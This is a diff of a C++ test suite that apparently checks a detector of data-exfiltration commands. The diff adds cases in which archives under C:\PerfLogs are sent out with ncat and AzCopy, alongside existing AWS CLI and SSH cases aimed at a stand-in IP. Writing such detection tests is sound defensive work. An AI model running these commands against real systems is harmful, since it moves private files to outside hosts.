@@ -171,6 +171,10 @@ INSTANTIATE_TEST_SUITE_P(
                              "C:\\PerfLogs\\1.rar"},
                     SentCase{"aws s3 cp C:\\a.rar s3://b/a --endpoint-url https://203.0.113.9",
                              "AWS CLI", "https://203.0.113.9", "C:\\a.rar"},
+                    SentCase{"type C:\\PerfLogs\\1.rar | ncat 203.0.113.9 443", "netcat",
+                             "203.0.113.9", "C:\\PerfLogs\\1.rar"},
+                    SentCase{"azcopy copy C:\\a.rar \"https://x.blob.core.windows.net/c?sv=1\"",
+                             "AzCopy", "https://x.blob.core.windows.net/c?sv=1", "C:\\a.rar"},
                     SentCase{"tar czf - C:\\HR | ssh root@203.0.113.9 \"cat > x.tgz\"", "SSH",
                              "root@203.0.113.9", "C:\\HR"}));
 
